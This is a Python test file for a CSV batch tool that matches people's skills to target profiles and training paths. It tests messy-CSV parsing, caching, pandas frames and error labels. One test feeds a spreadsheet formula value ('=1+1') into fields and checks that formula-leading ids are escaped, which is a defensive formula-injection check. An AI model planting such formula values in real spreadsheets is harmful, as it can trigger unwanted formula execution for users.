                          text=True, env=env, timeout=120)
    return (done.stdout, (tmp_path / "err.txt").read_text(encoding="utf-8"),
            (tmp_path / "rc.txt").read_text().strip())


def test_closed_pipe_ends_quietly(tmp_path):
    head, err, _ = closed_pipe(tmp_path)
    assert head == ",".join(COLUMNS) + "\n"
    assert "Traceback" not in err and "BrokenPipe" not in err and "Exception" not in err
    assert err == ""


def test_closed_pipe_exit_status_is_0(tmp_path):
    _, _, status = closed_pipe(tmp_path)
    assert status == "0"


# -- property: messy CSVs, every row accounted for --------------------------------------------

TEXT = "abcxyzPQ0123 éèàçœ€-=+@'|,;\t\""
SKILL_WORDS = ["python", "SQL", "git", "R", "cryptographie", "anglais", "pentest",
               "Sécurité réseau", "machine learning", "cuisine", "éthique", "=1+1"]
TARGETS = ["", "ia-A", "cyber-B", "IA-c", " ia-B ", "inconnu"]
ID_NAMES = ["id", "Identifiant", "Matricule", "Numéro dossier"]
SKILLS_NAMES = ["Compétences", "skills", "Compétences déclarées"]
TARGET_NAMES = ["cible", "Profil visé", "target"]


def quote(value: str, delimiter: str, force: bool) -> str:
    if force or any(c in value for c in (delimiter, '"', "\n", "\r")):
        return '"' + value.replace('"', '""') + '"'
    return value


@st.composite
def messy_csv(draw):
    delimiter = draw(st.sampled_from([";", ",", "\t", "|"]))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
    sep_line = draw(st.booleans())
    with_name = draw(st.booleans())
    roles = ["id", "skills", "target"] + (["nom"] if with_name else [])
    order = draw(st.permutations(roles))
    names = {"id": draw(st.sampled_from(ID_NAMES)),
             # cp1252 files are told apart by an accent early in the file, as real ones are
             "skills": "Compétences" if encoding == "cp1252"
             else draw(st.sampled_from(SKILLS_NAMES)),
             "target": draw(st.sampled_from(TARGET_NAMES)), "nom": "Nom"}
    lines = [f"sep={delimiter}"] if sep_line else []
    lines.append(delimiter.join(names[r] for r in order))
    line = len(lines)  # the header's line
    rows = []  # (kind, first line, values by role or None, physical lines)
    for _ in range(draw(st.integers(0, 12))):
        kind = draw(st.sampled_from(["ok", "ok", "ok", "multi", "blank", "count", "stray"]))
        text = st.text(TEXT, max_size=8)
        if kind in ("ok", "multi", "stray"):
            values = {
                "id": draw(text if kind != "multi" else st.text(TEXT + "\n", max_size=8)),
                "skills": ", ".join(draw(st.lists(st.sampled_from(SKILL_WORDS) | text,
                                                  max_size=4))),
                "target": draw(st.sampled_from(TARGETS)),
                "nom": draw(st.text(TEXT + ("\n" if kind == "multi" else ""), max_size=8)),
            }
            if kind == "multi":
                values["skills"] = values["skills"].replace(", ", draw(
                    st.sampled_from([", ", "\n", ",\n"])))
            fields = [quote(values[r], delimiter, draw(st.booleans())) for r in order]
            if kind == "stray":  # text after a closing quote
                fields[draw(st.integers(0, len(fields) - 1))] = '"ab"c'
            rendered = delimiter.join(fields)
        elif kind == "blank":
            values = None
            rendered = draw(st.sampled_from(["", "   ", delimiter * (len(order) - 1),
                                             delimiter.join(['""'] * len(order))]))
        else:  # a wrong number of fields
            values = None
            count = draw(st.integers(1, 6).filter(lambda n: n != len(order)))
            fields = ["W" + draw(st.text(TEXT.replace('"', ""), max_size=5))
                      for _ in range(count)]
            rendered = delimiter.join(quote(f, delimiter, False) for f in fields)
        physical = rendered.count("\n") + 1
        if kind in ("ok", "multi") and not "".join(values[r] for r in order).strip():
            kind = "blank"  # every field empty: a blank row
        rows.append((kind, line + 1, values, physical))
        line += physical
        lines.append(rendered)
    final_newline = draw(st.booleans()) or lines[-1] == ""
    text = newline.join(lines) + (newline if final_newline else "")
    return text.encode(encoding), encoding, delimiter, rows, line


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=messy_csv())
def test_messy_csv_every_row_accounted_for(referential, matcher, case):
    data, encoding, delimiter, rows, last_line = case
    engine = BatchEngine(referential, None, matcher=matcher)
    with tempfile.TemporaryDirectory() as directory:
        source, out = Path(directory) / "in.csv", Path(directory) / "out.csv"
        source.write_bytes(data)
        summary = run_batch(BatchOptions(input=str(source), output=str(out), engine=engine,
                                         chunk_size=5))
        output = rows_of(out)
        report = rows_of(Path(f"{out}.errors.csv"))
    assert summary.dialect == {"encoding": encoding, "delimiter": delimiter}
    assert summary.balanced
    assert summary.read == summary.ok + summary.errors + summary.skipped
    read = [r for r in rows if r[0] != "blank"]
    assert summary.skipped == sum(r[3] for r in rows if r[0] == "blank")
    assert summary.ok + summary.errors == len(read) == len(output)
    assert [int(r["line"]) for r in output] == [r[1] for r in read]
    assert summary.errors == len(report)
    assert [int(r["line"]) for r in report] == \
        [int(r["line"]) for r in output if r["status"] == "error"]
    assert all(1 <= int(r["line"]) <= last_line for r in report)
    for (kind, _, values, _), row in zip(read, output, strict=True):
        if kind == "stray":
            assert (row["status"], row["error"]) == ("error", "batch.bad_quote")
        elif kind == "count":
            assert (row["status"], row["error"]) == ("error", "batch.field_count")
        else:
            ident = values["id"].strip()
            assert row["id"] == ("'" + ident if ident.startswith(FORMULA_START) else ident)
            if not split_skills(values["skills"]):
                assert row["error"] == "batch.empty_skills"
            elif values["target"].strip() and \
                    referential.find_profile(values["target"]) is None:
                assert row["error"] == "batch.unknown_target"
            else:
                assert row["status"] == "ok", row


# -- the per-run caches give the one-person results -------------------------------------------


def generated_rows(referential, count: int, seed: int = 7) -> list[PersonRow]:
    words = [s.label.fr for s in referential.skills]
    words += [a.text for s in referential.skills for a in s.aliases][::3]
    words += ["pyhton", "Machine Lerning", "securite reseau", "cuisine", "excel", "linux"]
    rnd = random.Random(seed)
    targets = [None, "", "ia-A", "ia-B", "ia-C", "cyber-A", "cyber-B", "cyber-C", "IA-b"]
    rows = []
    for n in range(count):
        # few distinct skill sets, as in a real cohort, plus some one-offs
        pool = words[:12] if n % 3 else words
        items = rnd.sample(pool, rnd.randint(1, 9))
        rows.append(PersonRow(n + 2, f"P{n}", ", ".join(items), rnd.choice(targets)))
    return rows


def test_cached_batch_equals_one_person_at_a_time(referential, matcher, catalogue):
    rows = generated_rows(referential, 300)
    engine = BatchEngine(referential, catalogue, matcher=matcher)
    results = list(engine.process(rows, chunk_size=7))
    assert [r.row for r in results] == rows
    assert all(r.ok for r in results)
    summary = Summary()
    compared_paths = 0
    for row, result in zip(rows, results, strict=True):
        matches = [matcher.match(text) for text in split_skills(row.skills)]
        wanted = (row.target or "").strip()
        profile = referential.find_profile(wanted) if wanted else None
        alone = assess(referential, matches, profile)
        assert result.levels == {p.domain: p.level for p in alone.positions}
        held = {m.skill_id for m in matches if m.status is MatchStatus.MATCH and m.skill_id}
        assert list(result.matched) == [s.id for s in referential.skills if s.id in held]
        assert set(result.to_confirm) == set(alone_confirm(matches, held))
        if profile is None:
            assert result.target is None and result.path is None and result.missing == ()
            continue
        assert result.target == profile.id
        assert alone.gap is not None
        assert result.missing == tuple(i.skill_id for i in alone.gap.missing)
        assert result.coverage == alone.gap.coverage.coverage
        path = recommend(catalogue, gap_weights(alone.gap), Constraints(), Objective.COST)
        assert result.path is not None
        assert [s.formation.id for s in result.path.steps] == [s.formation.id for s in path.steps]
        assert result.path.total_cost == path.total_cost
        assert result.path.total_hours == path.total_hours
        assert result.path.residual == path.residual
        compared_paths += 1
        summary.add(result)
    assert compared_paths > 150
    summary.close()
    assert summary.total_cost == pytest.approx(sum(r.path.total_cost for r in results
                                                   if r.path is not None))


def alone_confirm(matches, held) -> list[str]:
    return [m.skill_id for m in matches
            if m.status is MatchStatus.TO_CONFIRM and m.skill_id and m.skill_id not in held]


def test_cached_batch_equals_a_fresh_engine_per_row(referential, matcher, catalogue):
    rows = generated_rows(referential, 200, seed=11)
    shared_engine = BatchEngine(referential, catalogue, matcher=matcher)
    together = list(shared_engine.process(rows))
    for row, result in zip(rows, together, strict=True):
        (alone,) = BatchEngine(referential, catalogue, matcher=matcher).process([row])
        assert (alone.target, alone.matched, alone.to_confirm, alone.unmatched) == \
            (result.target, result.matched, result.to_confirm, result.unmatched)
        assert alone.levels == result.levels
        assert alone.missing == result.missing
        assert alone.coverage == result.coverage
        if result.path is None:
            assert alone.path is None
        else:
            assert alone.path is not None
            assert [s.formation.id for s in alone.path.steps] == \
                [s.formation.id for s in result.path.steps]
            assert (alone.path.total_cost, alone.path.total_hours, alone.path.residual) == \
                (result.path.total_cost, result.path.total_hours, result.path.residual)


# -- process_frame (pandas) -------------------------------------------------------------------


def test_process_frame_with_pandas(referential, matcher, catalogue):
    pd = pytest.importorskip("pandas", reason="pandas is not installed: process_frame needs it")
    # a chunk of a larger table, as dask hands it over: its index counts rows from 100
    frame = pd.DataFrame({
        "id": ["A1", "B2", "C3", "A1"],
        "skills": ["Python, SQL", float("nan"), "cryptographie, git", "Python, SQL"],
        "target": ["ia-A", "ia-B", "cyber-Z", "ia-A"],
        "nom": ["Hélène", "Zoé", "Jérôme", "Hélène"],
    }, index=pd.RangeIndex(100, 104))
    engine = BatchEngine(referential, catalogue, matcher=matcher)
    out = process_frame(frame, engine, target_column="target", keep=["nom"],
                        pseudonym_key=KEY.encode())
    assert list(out.columns) == output_columns(engine.domains, ["nom"])
    assert list(out.index) == [100, 101, 102, 103]
    assert list(out["line"]) == [101, 102, 103, 104]
    assert list(out["id"]) == [pseudo(KEY, i) for i in ["A1", "B2", "C3", "A1"]]
    assert list(out["status"]) == ["ok", "error", "error", "ok"]
    assert list(out["error"])[1:3] == ["batch.empty_skills", "batch.unknown_target"]
    assert list(out["nom"]) == ["Hélène", "Zoé", "Jérôme", "Hélène"]
    assert out.loc[100, "matched"] == "python|bases-de-donnees"
    assert out.loc[100].drop("line").equals(out.loc[103].drop("line"))
    (expected,) = BatchEngine(referential, catalogue, matcher=matcher).process(
        [PersonRow(1, "A1", "Python, SQL", "ia-A")])
    assert out.loc[100, "missing"] == "|".join(expected.missing)
    assert out.loc[100, "formations"] == "|".join(s.formation.id for s in expected.path.steps)
    assert out.loc[100, "total_cost_eur"] == expected.path.total_cost
    assert out.loc[100, "coverage"] == pytest.approx(expected.coverage, abs=1e-4)

    # rows read from a file whose index is not a row number: positions in the chunk
    named = frame.drop(columns=["nom"]).set_index(pd.Index(["w", "x", "y", "z"]))
    plain = process_frame(named, engine, target_column="target")
    assert list(plain.columns) == output_columns(engine.domains)
    assert list(plain.index) == ["w", "x", "y", "z"]
    assert list(plain["line"]) == [1, 2, 3, 4]
    assert list(plain["id"]) == ["A1", "B2", "C3", "A1"]
    assert list(plain["status"]) == ["ok", "error", "error", "ok"]


def test_tiny_caches_change_nothing_in_the_output(run, referential, tmp_path, monkeypatch):
    """Every per-run cache is bounded (emptied when full): with room for three entries the
    output, the error report and the summary are byte for byte those of a normal run."""
    rows = generated_rows(referential, 400, seed=5)
    lines = ["id;competences;cible"] + [f"{r.id};{r.skills.replace(';', ' ')};{r.target or ''}"
                                        for r in rows] + ["X1;;ia-Z", "X2;python;"]
    source = tmp_path / "people.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")

    def batch(name: str) -> tuple[bytes, bytes, bytes]:
        out = tmp_path / f"{name}.csv"
        result = run("batch", str(source), "-o", str(out), "--summary-file",
                     str(tmp_path / f"{name}.json"), "--allow-errors")
        assert result.exit_code == 0, result.stderr
        return (out.read_bytes(), Path(f"{out}.errors.csv").read_bytes(),
                (tmp_path / f"{name}.json").read_bytes())

    normal = batch("normal")
    monkeypatch.setattr(BatchEngine, "CACHE_LIMIT", 3)
    monkeypatch.setattr("skillmatch.recommend.COVER_MEMO_LIMIT", 3)
    tiny = batch("tiny")
    assert tiny == normal
    assert normal[0].count(b"\n") == len(lines)  # header + one row per input row


@pytest.mark.parametrize(("lang", "label"), [("fr", "caractère NUL (batch.nul_byte)"),
                                             ("en", "NUL character (batch.nul_byte)")])
def test_summary_names_the_reasons_of_rows_in_error_in_words(run, tmp_path, lang, label):
    result = run("--lang", lang, "batch", fixture("nul_byte.csv"), "-o",
                 str(tmp_path / "o.csv"), "--summary", "--allow-errors")
    assert result.exit_code == 0, result.stderr
    assert label in result.stdout + result.stderr


def test_every_row_error_has_a_reason_label_in_both_languages():
    from skillmatch.messages import MESSAGES

    row_errors = {"batch.bad_byte", "batch.field_too_long", "batch.nul_byte",
                  "batch.unclosed_quote", "batch.bad_quote", "batch.field_count",
                  "batch.empty_skills", "batch.unknown_target"}
    for key in row_errors:
        assert key in MESSAGES
        fr, en = MESSAGES[f"reason.{key}"]
        assert fr and en and fr != en
